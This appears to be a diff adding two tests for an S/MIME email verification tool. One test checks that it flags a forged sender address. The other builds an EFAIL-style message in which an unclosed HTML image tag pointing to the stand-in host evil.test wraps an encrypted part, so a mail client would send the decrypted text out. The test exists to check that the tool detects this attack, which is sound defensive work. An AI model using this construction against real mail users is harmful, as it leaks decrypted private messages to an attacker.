@@ -241,4 +241,32 @@ class PeerMessageTest {
             assertThat(verified(form, "--require-sender").verdict()).isEqualTo("indeterminate");
         }
     }
+
+    /** EFAIL (USENIX Security 2018): the parts around send what is decrypted to whoever wrote them. */
+    @Test
+    void anEncryptedPartWrappedInAnothersTextIsSuspicious() throws IOException {
+        openssl("cms -sign -in inner.txt -out signed.eml -signer alice.pem -inkey alice.key");
+        openssl("cms -encrypt -in signed.eml -out part.eml bob.pem");
+        String part = text(bytes("part.eml"));
+        Files.writeString(
+                folder.resolve("efail.eml"),
+                "From: alice@example.test\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\n"
+                        + "Content-Type: text/html\n\n<img src=\"http://evil.test/\n--b\n"
+                        + part.substring(part.indexOf("Content-"))
+                        + "\n--b\nContent-Type: text/html\n\n\">\n--b--\n",
+                StandardCharsets.ISO_8859_1);
+        Cli.Said said = verified("efail.eml");
+        assertThat(said.status()).as(said.shown()).isEqualTo(1);
+        assertThat(said.verdict()).isNotEqualTo("valid");
+        assertThat(said.json().at("/headers/suspicious")).isNotEmpty();
+        assertThat(said.json().at("/encryption/opened").asBoolean()).isTrue();
+    }
+
+    @Test
+    void anAddressInTheCommonNameAloneBindsNobody() {
+        openSsl.person("boss@example.test", "eve@example.test", "ec");
+        openssl("cms -sign -in inner.txt -out cn.eml -signer boss@example.test.pem -inkey boss@example.test.key"
+                + " -from boss@example.test -to bob@example.test -subject x");
+        assertThat(verified("cn.eml").code()).isEqualTo("sender-mismatch");
+    }
 }
